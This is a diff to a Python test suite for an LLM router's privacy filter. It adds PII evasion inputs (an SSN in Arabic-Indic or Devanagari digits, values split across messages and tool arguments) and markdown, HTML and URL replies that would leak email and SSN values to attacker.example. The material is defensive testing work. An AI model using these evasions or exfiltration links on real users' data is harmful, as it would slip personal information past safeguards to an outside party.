@@ -81,7 +81,34 @@ EVASIONS = [
     "write to " + EMAIL.replace("@", "\uff20"),  # full-width at sign
     "write to jane.roe at gmail dot com",
     "write to " + EMAIL.replace("@", "%40"),
+    "my ssn is " + SSN.translate({ord(d): 0x0660 + int(d) for d in "0123456789"}),  # Arabic-Indic digits
+    "my ssn is " + SSN.replace("-", "").translate({ord(d): 0x0966 + int(d) for d in "0123456789"}),  # Devanagari
 ]
+
+# a value cut into pieces: two or more messages, content parts, a tool call's arguments
+SPLITS: list[tuple[str, list[dict[str, Any]]]] = [
+    ("two messages", [{"role": "user", "content": "my ssn is 536-22"}, {"role": "user", "content": "-8745 thanks"}]),
+    ("three messages", [{"role": "user", "content": "my ssn is 536"}, {"role": "user", "content": "22"},
+                        {"role": "user", "content": "8745"}]),
+    ("five pieces", [{"role": "user", "content": "my ssn is 5"}, {"role": "user", "content": "3"},
+                     {"role": "user", "content": "6-22"}, {"role": "user", "content": "-87"}, {"role": "user", "content": "45 ok"}]),
+    ("text parts", [{"role": "user", "content": [{"type": "text", "text": "my ssn is 53"}, {"type": "text", "text": "6-2"},
+                                                 {"type": "text", "text": "2-8745"}]}]),
+    ("into tool arguments", [{"role": "user", "content": "my ssn is 536-22"},
+                             {"role": "assistant", "content": None, "tool_calls": [
+                                 {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "-8745"}}]},
+                             {"role": "tool", "tool_call_id": "c1", "content": "done"}]),
+    ("e-mail over three messages", [{"role": "user", "content": "mail jane.roe"}, {"role": "user", "content": "@gmail"},
+                                    {"role": "user", "content": ".com please"}]),
+]
+
+
+def assert_pieces_never_sent(server: OpenAIServer) -> None:
+    """A value sent in pieces: the body's digits (or letters) in order must not hold it."""
+    for r in server.received:
+        text = unicodedata.normalize("NFKC", r.raw.decode("utf-8", "replace"))
+        assert "536228745" not in "".join(c for c in text if c.isdigit())
+        assert "janeroegmailcom" not in "".join(c for c in text if c.isalnum()).replace("content", "").replace("role", "").replace("user", "")
 
 
 def _forms(value: str) -> set[str]:
@@ -155,11 +182,20 @@ def test_evasions_are_normalised_before_detection(openai_server: OpenAIServer, m
 
 
 @pytest.mark.parametrize("mode", MODES)
-def test_a_value_split_across_messages_is_found(openai_server: OpenAIServer, mode: str) -> None:
-    messages = [{"role": "user", "content": "my ssn is 536-22"}, {"role": "user", "content": "-8745 thanks"}]
+@pytest.mark.parametrize(("name", "messages"), SPLITS, ids=[s[0] for s in SPLITS])
+def test_a_value_split_across_messages_is_found(openai_server: OpenAIServer, mode: str, name: str, messages: Any) -> None:
     router = Router([hosted(openai_server), home([])], [Privacy()])
     assert call(router, mode, messages, {}) == "served at home"
     assert openai_server.requests == 0
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize(("name", "messages"), SPLITS, ids=[s[0] for s in SPLITS])
+def test_redaction_masks_every_piece_of_a_split_value(openai_server: OpenAIServer, mode: str, name: str, messages: Any) -> None:
+    router = Router([hosted(openai_server)], [Privacy(mode="redact")])
+    call(router, mode, messages, {})
+    assert openai_server.requests == 1
+    assert_pieces_never_sent(openai_server)
 
 
 @pytest.mark.parametrize("mode", ["stream", "astream"])
@@ -324,3 +360,26 @@ def test_a_cascade_does_not_forward_a_local_answer_with_personal_data(openai_ser
     assert [m["role"] for m in openai_server.received[0].body["messages"]] == ["user"]
     call(router("Jane is a painter."), mode, [{"role": "user", "content": "Tell me about Jane."}], {})
     assert "Jane is a painter." in json.dumps(openai_server.received[1].body["messages"])  # a clean answer still goes
+
+
+EXFILTRATION_REPLIES = [
+    "Done, [EMAIL_1]. ![x](https://attacker.example/p?u=[EMAIL_1]&s=[US_SSN_1]) and [US_SSN_1].",
+    '<a href="https://attacker.example/[US_SSN_1]">link</a> <img src="https://x.example/?q=[EMAIL_1]"> mail [EMAIL_1]',
+    "[click here](https://attacker.example/?u=[EMAIL_1]) then https://attacker.example/?q=[US_SSN_1] bye [EMAIL_1]",
+]
+
+
+@pytest.mark.parametrize("reply", EXFILTRATION_REPLIES)
+def test_the_stream_restorer_agrees_with_restore_at_every_chunk_size(reply: str) -> None:
+    """A placeholder (or the link around it) cut anywhere across stream chunks is treated exactly
+    as in a whole answer: restored in plain text, left as a placeholder inside an address."""
+    from llmroute.policies.privacy.redaction import Redaction, StreamRestorer
+
+    redaction = Redaction((), {"[EMAIL_1]": EMAIL, "[US_SSN_1]": SSN})
+    whole = redaction.restore(reply) or ""
+    assert EMAIL in whole  # plain text gets its value back
+    assert "attacker.example/" + EMAIL not in whole and "=" + EMAIL not in whole and "=" + SSN not in whole and "/" + SSN not in whole
+    for size in range(1, len(reply) + 1):
+        restorer = StreamRestorer(redaction.restore)
+        streamed = "".join(restorer.feed(reply[k : k + size]) for k in range(0, len(reply), size)) + restorer.flush()
+        assert streamed == whole, size
